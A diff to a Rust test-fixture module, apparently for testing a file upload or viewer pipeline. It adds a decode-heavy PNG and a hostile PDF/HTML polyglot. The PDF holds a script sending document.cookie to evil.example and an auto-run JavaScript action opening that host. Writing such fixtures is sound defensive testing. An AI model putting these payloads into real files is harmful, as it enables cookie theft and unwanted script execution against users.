@@ -139,9 +139,38 @@ pub fn png(width: u32, height: u32) -> Vec<u8> {
     out.into_inner()
 }
 
+/// A PNG with an alpha channel, cheap to send (flat regions compress) and
+/// as costly to decode as any image of its size: what a bomb within the
+/// limits looks like.
+pub fn png_rgba(width: u32, height: u32) -> Vec<u8> {
+    let image = image::RgbaImage::from_fn(width, height, |x, y| {
+        image::Rgba([(x / 64 % 256) as u8, (y / 64 % 256) as u8, 128, 255])
+    });
+    let mut out = Cursor::new(Vec::new());
+    DynamicImage::ImageRgba8(image)
+        .write_to(&mut out, ImageFormat::Png)
+        .expect("encode a PNG");
+    out.into_inner()
+}
+
 /// A minimal but complete PDF.
 pub fn pdf() -> Vec<u8> {
     b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
+}
+
+/// A PDF that is also an HTML page with a script, runs JavaScript when
+/// opened (`/OpenAction`), and names a person by number in its metadata:
+/// what a viewer must never be handed.
+pub fn hostile_pdf(national_id: &str) -> Vec<u8> {
+    format!(
+        "%PDF-1.7\n<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>\n\
+         1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n\
+         2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n\
+         3 0 obj << /S /JavaScript /JS (app.launchURL('https://evil.example/', true);) >> endobj\n\
+         4 0 obj << /Author ({national_id}) /Producer (hostile) >> endobj\n\
+         trailer << /Root 1 0 R /Info 4 0 R >>\n%%EOF\n"
+    )
+    .into_bytes()
 }
 
 /// A valid PNG of 1×1 pixel whose header declares `width`×`height`: a small
